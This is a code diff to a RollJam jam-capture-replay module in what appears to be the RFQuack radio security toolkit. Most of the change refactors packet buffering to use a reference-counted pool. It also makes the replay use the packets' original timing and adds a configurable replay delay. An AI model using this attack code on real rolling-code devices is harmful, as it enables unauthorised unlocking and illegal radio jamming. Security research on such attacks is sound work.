@@ -18,8 +18,16 @@ public:
     bool onPacketReceived(rfquack_Packet &pkt, rfquack_WhichRadio whichRadio) override {
       if (buffer != NULL && bufferSize < bufferMaxSize) {
 
-        // Store received packet
-        memcpy(&(buffer[bufferSize]), &pkt, sizeof(rfquack_Packet));
+        // Keep a reference to the received packet (no copy, unless it lives outside the pool).
+        rfquack_packet_handle_t handle = packetPool.handleOf(&pkt);
+        if (handle != RFQUACK_PACKET_HANDLE_NONE) {
+          packetPool.retain(handle);
+        } else {
+          handle = packetPool.acquire();
+          if (handle == RFQUACK_PACKET_HANDLE_NONE) return true;
+          *packetPool.get(handle) = pkt;
+        }
+        buffer[bufferSize] = handle;
         bufferSize++;
         RFQUACK_LOG_TRACE(F("RollJam: stored %d packets"), bufferSize)
 
@@ -34,16 +42,21 @@ public:
           RFQUACK_LOG_TRACE(F("RollJam: listenRadio in TX mode."))
           rfqRadio->setMode(rfquack_Mode_TX, listenRadio);
 
-          delay(200);
-
-          // Fire
+          // Fire: first packet after replayDelayUs, the others as far apart as they were captured.
           RFQUACK_LOG_TRACE(F("RollJam: Will repeat first %d packets"), pktToReplay)
           for (int i = 0; i < pktToReplay; i++) {
             RFQUACK_LOG_TRACE(F("RollJam: Sending %d/%d packets"), (i + 1), pktToReplay)
-            rfquack_Packet *packet = &(buffer[i]);
-            packet->has_repeat = true;
-            packet->repeat = 1;
-            rfqRadio->transmit(packet, listenRadio);
+            rfquack_Packet *replay = packetPool.get(buffer[i]);
+            rfquack_Packet *previous = i > 0 ? packetPool.get(buffer[i - 1]) : nullptr;
+            replay->has_txDelayUs = true;
+            replay->txDelayUs = previous != nullptr && previous->has_rxMicros && replay->has_rxMicros
+                                ? (uint32_t) (replay->rxMicros - previous->rxMicros)
+                                : replayDelayUs;
+
+            // Captured packets carry no 'repeat', so they are sent once.
+            if (rfqRadio->transmit(replay, listenRadio) != RADIOLIB_ERR_NONE) {
+              RFQUACK_LOG_ERROR(F("RollJam: unable to queue packet %d"), (i + 1))
+            }
           }
         }
       }
@@ -68,6 +81,11 @@ public:
                        "How many packets to replay (default: 1)",
                        pktToReplay)
 
+      // Set time between stopping the jammer and replaying.
+      CMD_MATCHES_UINT("replay_delay_us",
+                       "Time between jam stop and replay (us, default: 200000)",
+                       replayDelayUs)
+
       // Set radio to use for listening.
       CMD_MATCHES_WHICHRADIO("listen_radio",
                              "Which radio to use to listen for packets (default: 0 : RadioA)",
@@ -81,9 +99,7 @@ public:
 
     void start(rfquack_CmdReply &reply) {
       // Free memory buffer if already allocated.
-      if (buffer != NULL) {
-        delete buffer;
-      }
+      releaseBuffer();
 
       if (pktToCapture <= 0 || pktToReplay <= 0 || pktToReplay > pktToCapture) {
         setReplyMessage(reply, F("Please set pkt_to_capture and pkt_to_repeat"));
@@ -94,7 +110,7 @@ public:
       // Allocate memory to store N packets
       bufferSize = 0;
       bufferMaxSize = pktToCapture;
-      buffer = new rfquack_Packet[bufferMaxSize];
+      buffer = new rfquack_packet_handle_t[bufferMaxSize];
 
       // Put jamRadio in Jamming Mode.
       reply.result = rfqRadio->setMode(rfquack_Mode_JAM, jamRadio);
@@ -121,17 +137,34 @@ public:
       // Put both radios in RX
       rfqRadio->setMode(rfquack_Mode_IDLE, listenRadio);
       rfqRadio->setMode(rfquack_Mode_IDLE, jamRadio);
+
+      releaseBuffer();
+    }
+
+    /**
+     * Gives captured packets back to the pool and frees the buffer.
+     */
+    void releaseBuffer() {
+      if (buffer == NULL) return;
+
+      for (int i = 0; i < bufferSize; i++) {
+        packetPool.release(buffer[i]);
+      }
+      delete[] buffer;
+      buffer = NULL;
+      bufferSize = 0;
     }
 
 private:
-    // Buffer to store 'jammed' packets
-    rfquack_Packet *buffer = NULL;
-    uint8_t bufferSize;
+    // Handles of 'jammed' packets, held in the packet pool.
+    rfquack_packet_handle_t *buffer = NULL;
+    uint8_t bufferSize = 0;
     uint8_t bufferMaxSize;
 
     // Config variables
     uint8_t pktToCapture = 2;
     uint8_t pktToReplay = 1;
+    uint32_t replayDelayUs = 200000;
     rfquack_WhichRadio listenRadio = rfquack_WhichRadio_RadioA;
     rfquack_WhichRadio jamRadio = rfquack_WhichRadio_RadioB;
 };